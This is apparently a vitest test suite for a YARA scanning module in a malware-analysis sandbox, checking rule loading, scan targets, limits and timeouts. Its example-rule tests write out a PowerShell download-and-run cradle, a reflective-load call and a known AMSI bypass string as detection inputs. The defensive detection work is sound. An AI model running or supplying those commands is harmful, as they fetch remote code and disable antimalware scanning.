import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Results } from 'ovoscope';
import { afterAll, describe, expect, it, test } from 'vitest';
import { context, input, loaded } from '../../src/engine/fake.cases.ts';
import { runProcessing } from '../../src/engine/run-processing.ts';
import { bson } from '../../tests/support/bson-writer.ts';
import { dumpOf } from '../../tests/support/memory-dump-writer.ts';
import { memoryTask, runModule } from '../../tests/support/memory-task.ts';
import Dropped from './dropped.ts';
import Target from './target.ts';
import Yara from './yara.ts';

const root = mkdtempSync(join(tmpdir(), 'ovoscope-yara-'));
afterAll(() => rmSync(root, { recursive: true }));

let folders = 0;
function rulesFolder(files: { [path: string]: string }): string {
  const folder = join(root, String(folders++));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return folder;
}

const rule = (name: string, text: string) => `rule ${name} { strings: $a = "${text}" condition: $a }\n`;
const run = (
  files: { [path: string]: string | Uint8Array },
  rules: string,
  given: { results?: Results; options?: object } = {},
) => runModule(Yara, memoryTask(files), { results: given.results ?? {}, options: { rules, ...given.options } });

test('without rules it is skipped, and the statistics say why', async () => {
  const shared = context({});
  const [timing] = await runProcessing([loaded(Yara)], input(), {}, shared);
  expect(timing).toMatchObject({
    name: 'yara',
    state: 'skipped',
    reason: expect.stringContaining('no rules are configured'),
  });
  expect(shared.problems.items).toEqual([]);
});

describe('targets', () => {
  const rules = rulesFolder({ 'all.yar': rule('needle', 'needle') });

  it('are the sample, what it left, buffers, dumps, scripts and URLs', async () => {
    const processes = [{ process_id: 1, command_line: 'cmd /c needle', first_seen: '', calls: [] }];
    const summary = { files: [], keys: [], mutexes: [], fetches_url: ['http://needle.ru/'] };
    const results = { behavior: { processes, processtree: [], summary } } as unknown as Results;
    const files = {
      binary: 'needle',
      'files/a': 'needle',
      'CAPE/b': 'needle',
      'package_files/c': 'hay',
      'buffer/aa': 'needle',
      'logs/7.bson': bson({ type: 'buffer', buffer: Buffer.from('in a needle'), checksum: 'x' }),
      'memory/1.dmp': dumpOf([{ address: 0x1000n, bytes: Buffer.from('needle') }]),
      'shots/0001.jpg': 'needle',
    };
    const { value, problems } = await run(files, rules, { results });
    expect(problems).toEqual([]);
    expect(
      value!.map(({ category, path, url, yara }) => [category, path ?? url ?? null, yara.map(({ name }) => name)]),
    ).toEqual([
      ['sample', 'binary', ['needle']],
      ['extracted', null, ['needle']],
      ['dropped', 'files/a', ['needle']],
      ['dropped', 'package_files/c', []],
      ['dropped', 'CAPE/b', ['needle']],
      ['buffer', 'buffer/aa', ['needle']],
      ['buffer', null, ['needle']],
      ['procmemory', 'memory/1.dmp', ['needle']],
      ['urls', 'http://needle.ru/', ['needle']],
    ]);
  });

  it('may be none', async () => {
    expect(await run({}, rules)).toEqual({ value: [], problems: [] });
  });

  it('that are empty match nothing', async () => {
    const { value } = await run({ binary: '' }, rules);
    expect(value).toEqual([{ category: 'sample', path: 'binary', yara: [] }]);
  });

  it('are limited in number and size', async () => {
    const files = { binary: 'x'.repeat(3 << 20), 'files/a': 'a', 'files/b': 'b' };
    const { value, problems } = await run(files, rules, { options: { bytes: 1, targets: 2 } });
    expect(value).toHaveLength(2);
    expect(problems.map(({ code }) => code)).toEqual(['YARA_TOO_MANY_TARGETS', 'YARA_CUT']);
  });

  it('that cannot be read are problems', async () => {
    const task = memoryTask({ binary: 'x', 'files/a': 'needle' });
    const open = (path: string) => {
      if (path === 'binary') throw new Error('permission denied');
      return task.open(path);
    };
    const { value, problems } = await runModule(Yara, { ...task, open }, { options: { rules } });
    expect(value).toHaveLength(1);
    expect(problems.map(({ code }) => code)).toEqual(['FILE_UNREADABLE']);
  });

  it('of memory are scanned whole, in parts, and each match counts once', async () => {
    const bytes = Buffer.alloc(5 << 20);
    for (const at of [10, (1 << 20) + 500_000, (4 << 20) + 7]) bytes.write('needle', at);
    const { value, problems } = await run({ 'memory/1.dmp': dumpOf([{ address: 0x1000n, bytes }]) }, rules, {
      options: { bytes: 2 << 20 },
    });
    expect(problems).toEqual([]);
    const offsets = value![0]!.yara[0]!.offsets['a']!;
    expect(offsets).toEqual([10, (1 << 20) + 500_000, (4 << 20) + 7].map((at) => [at + 24, 0]));
  });
});

describe('rules', () => {
  it('that are broken are told with their place, and the others run', async () => {
    const rules = rulesFolder({
      'good.yar': rule('good', 'x'),
      'sub/bad.yara': 'rule a { condition: true }\nrule b { condition: nope }',
    });
    const { value, problems } = await run({ binary: 'x' }, rules);
    expect(value![0]!.yara.map(({ name, file }) => [name, file])).toEqual([['good', 'good.yar']]);
    expect(problems).toMatchObject([
      {
        code: 'YARA_BROKEN_RULES',
        where: { file: 'sub/bad.yara', line: 2, column: 21 },
        message: expect.stringContaining('sub/bad.yara:2:21: unknown identifier `nope`'),
      },
    ]);
  });

  it('of a folder for a kind of target are for that kind', async () => {
    const rules = rulesFolder({
      'memory/m.yar': rule('m', 'x'),
      'binaries/b.yar': rule('b', 'x'),
      'other/o.yar': rule('o', 'x'),
    });
    const { value } = await run(
      { binary: 'x', 'memory/1.dmp': dumpOf([{ address: 0x1000n, bytes: Buffer.from('x') }]) },
      rules,
    );
    expect(value!.map(({ yara }) => yara.map(({ name }) => name))).toEqual([
      ['b', 'o'],
      ['m', 'o'],
    ]);
  });

  it('may include each other, as each is there already', async () => {
    const rules = rulesFolder({
      'index.yar': 'include "./sub/a.yar"\n include "b.yar"\n',
      'sub/a.yar': rule('a', 'x'),
      'b.yar': rule('b', 'x'),
    });
    const { value, problems } = await run({ binary: 'x' }, rules);
    expect(problems).toEqual([]);
    expect(value![0]!.yara.map(({ name }) => name)).toEqual(['b', 'a']);
  });

  it('may be one file', async () => {
    const folder = rulesFolder({ 'one.yar': rule('one', 'x'), 'two.yar': rule('two', 'x') });
    const { value } = await run({ binary: 'x' }, join(folder, 'one.yar'));
    expect(value![0]!.yara.map(({ name }) => name)).toEqual(['one']);
  });

  it.each([
    ['no folder', () => join(root, 'nowhere'), ['YARA_NO_RULES']],
    ['an empty folder', () => rulesFolder({ 'x.txt': '' }), ['YARA_NO_RULES']],
    ['broken files only', () => rulesFolder({ 'x.yar': 'rule' }), ['YARA_BROKEN_RULES']],
  ])('%s is a problem', async (_, folder, codes) => {
    const { value, problems } = await run({ binary: 'x' }, folder());
    expect([value, problems.map(({ code }) => code)]).toEqual([undefined, codes]);
  });

  it('that run wild cost one target, and in the end the scan', async () => {
    const wild = 'for all i in (1 .. 2000000000) : (for all j in (1 .. 2000000000) : (i + j > 0))';
    const rules = rulesFolder({
      'w.yar': `rule w { condition: uint8(0) == 0x77 and ${wild} }`,
      'x.yar': rule('x', 'x'),
    });
    const files = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`files/${i}`, i === 1 ? 'x' : 'w']));
    const { value, problems } = await run(files, rules, { options: { seconds: 3, timeouts: 2 } });
    expect(value!.map(({ path }) => path)).toEqual(['files/1']);
    expect(problems.map(({ code }) => code)).toEqual(['YARA_TIMEOUT', 'YARA_TIMEOUT', 'YARA_GIVEN_UP']);
  }, 60_000);
});

test('hits are in the records of files as well', async () => {
  const rules = rulesFolder({ 'a.yar': rule('a', 'x') });
  const task = memoryTask({ binary: 'x', 'files/b': 'y' });
  const { value: yara } = await runModule(Yara, task, { options: { rules } });
  const results = { yara: yara! };
  const { value: target } = await runModule(Target, task, { results });
  const { value: dropped } = await runModule(Dropped, task, { results });
  expect([target.file!['yara'], dropped[0]!['yara']]).toEqual([yara![0]!.yara, []]);
  expect((await runModule(Dropped, task)).value[0]).not.toHaveProperty('yara');
});

describe('the example rules', () => {
  const rules = fileURLToPath(new URL('../../rules/yara', import.meta.url));
  const names = async (files: { [path: string]: string | Uint8Array }, results: Results = {}) => {
    const { value, problems } = await run(files, rules, { results });
    expect(problems).toEqual([]);
    return value![0]!.yara.map(({ name }) => name);
  };

  it.each([
    ['embedded_pe', Buffer.concat([Buffer.from('x'.repeat(50)), program()])],
    ['pe_in_base64', Buffer.from(program().toString('base64'))],
    ['pe_reversed', program().reverse()],
    ['names_of_virtual_machines', Buffer.from('VBoxService vmtoolsd QEMU-GA')],
    ['names_of_analysis_tools', Buffer.from('OllyDbg Wireshark procmon x64dbg', 'utf16le')],
  ])('%s', async (name, bytes) => expect(await names({ binary: bytes })).toContain(name));

  it('find nothing in ordinary files', async () => {
    expect(await names({ binary: program() })).toEqual([]);
    expect(await names({ binary: 'an ordinary text about a virtual machine' })).toEqual([]);
  });

  it.each([
    ['powershell_download_and_run', "IEX (New-Object Net.WebClient).DownloadString('http://x')"],
    ['powershell_reflective_load', '[Reflection.Assembly]::Load($x)'],
    [
      'powershell_amsi_bypass',
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')",
    ],
  ])('%s', async (name, script) => {
    const processes = [{ process_id: 1, command_line: `powershell -c ${script}`, first_seen: '', calls: [] }];
    const behavior = { processes, processtree: [], summary: { files: [], keys: [], mutexes: [] } };
    expect(await names({}, { behavior } as unknown as Results)).toContain(name);
  });
});

function program(): Buffer {
  const bytes = Buffer.alloc(300);
  bytes.write('MZ', 0);
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('!This program cannot be run in DOS mode.', 0x4e);
  bytes.write('PE\0\0', 0x80);
  return bytes;
}
